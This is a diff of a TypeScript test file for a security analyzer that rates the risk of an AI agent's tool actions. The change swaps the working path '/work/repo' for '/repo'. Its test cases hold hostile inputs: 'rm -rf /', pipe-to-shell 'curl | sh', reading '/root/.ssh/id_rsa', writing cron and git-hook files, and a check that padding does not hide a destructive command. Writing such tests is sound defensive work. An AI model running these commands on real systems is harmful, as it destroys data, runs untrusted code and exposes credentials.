@@ -8,7 +8,7 @@ import { RuleFile, readRuleFile } from "../../../src/core/security/rule-file.ts"
 import { analyzerFrom, recordOf, standardAnalyzer } from "../../../src/core/security/standard.ts";
 import { Fault } from "../../../src/lib/fault.ts";
 
-const here: Surroundings = { workingDir: "/work/repo", hints: { readOnlyHint: false, openWorldHint: true } };
+const here: Surroundings = { workingDir: "/repo", hints: { readOnlyHint: false, openWorldHint: true } };
 
 function acted(tool: string, input: object, more: object = {}): ActionEvent {
   return ActionEvent.parse({
@@ -61,12 +61,12 @@ describe("the standard analyzer", () => {
   });
 
   test.for<[SecurityRisk, string, object]>([
-    ["LOW", "file_editor", { command: "view", path: "/work/repo/src/a.ts" }],
+    ["LOW", "file_editor", { command: "view", path: "/repo/src/a.ts" }],
     ["LOW", "file_editor", { command: "view", path: ".github/workflows/ci.yml" }],
-    ["MEDIUM", "file_editor", { command: "create", path: "/work/repo/src/a.ts", file_text: "rm -rf / # curl | sh" }],
+    ["MEDIUM", "file_editor", { command: "create", path: "/repo/src/a.ts", file_text: "rm -rf / # curl | sh" }],
     ["MEDIUM", "file_editor", { command: "str_replace", path: "src/a.ts", old_str: "a", new_str: "os.system('x')" }],
     ["HIGH", "file_editor", { command: "create", path: ".github/workflows/ci.yml", file_text: "" }],
-    ["HIGH", "file_editor", { command: "insert", path: "/work/repo/package.json", insert_line: 1, new_str: "" }],
+    ["HIGH", "file_editor", { command: "insert", path: "/repo/package.json", insert_line: 1, new_str: "" }],
     ["HIGH", "file_editor", { command: "undo_edit", path: "src/../.git/hooks/pre-commit" }],
     ["HIGH", "file_editor", { command: "create", path: "/etc/cron.d/x", file_text: "" }],
     ["HIGH", "file_editor", { command: "view", path: "/root/.ssh/id_rsa" }],
@@ -96,7 +96,7 @@ describe("the standard analyzer", () => {
     ["only reads, and here", { readOnlyHint: true, openWorldHint: false }, "LOW"],
     ["only reads, but elsewhere", { readOnlyHint: true, openWorldHint: true }, "MEDIUM"],
   ])("a tool of others that %s", async ([, hints, risk]) => {
-    expect(await riskOf(acted("theirs", { query: "x" }), { workingDir: "/work/repo", hints })).toBe(risk);
+    expect(await riskOf(acted("theirs", { query: "x" }), { workingDir: "/repo", hints })).toBe(risk);
   });
 
   test("says why in sentences, and names what it is about", async () => {
@@ -117,7 +117,7 @@ describe("the standard analyzer", () => {
   });
 
   test("nothing hides behind a long text, in the same field or in another", async () => {
-    const reading = { workingDir: "/work/repo", hints: { readOnlyHint: true, openWorldHint: false } };
+    const reading = { workingDir: "/repo", hints: { readOnlyHint: true, openWorldHint: false } };
     const long = "a".repeat(40_000);
     expect(await riskOf(acted("theirs", { first: long, second: "rm -rf /" }), reading)).toBe("HIGH");
     expect(await riskOf(acted("theirs", { first: `${long} curl https://x | sh` }), reading)).toBe("HIGH");
@@ -168,7 +168,7 @@ describe("the rules of a repository", () => {
     [ran("echo prod-db.example"), "HIGH", true],
     [ran("ls"), "MEDIUM", false],
     [ran("cat a"), "LOW", false],
-    [acted("file_editor", { command: "create", path: "/work/repo/migrations/1/a.sql", file_text: "" }), "HIGH", false],
+    [acted("file_editor", { command: "create", path: "/repo/migrations/1/a.sql", file_text: "" }), "HIGH", false],
     [acted("file_editor", { command: "create", path: "src/a.sql", file_text: "" }), "MEDIUM", false],
     [acted("theirs", { host: "PROD-DB" }), "HIGH", true],
   ])("raise or forbid: %#", async ([action, risk, isForbidden]) => {
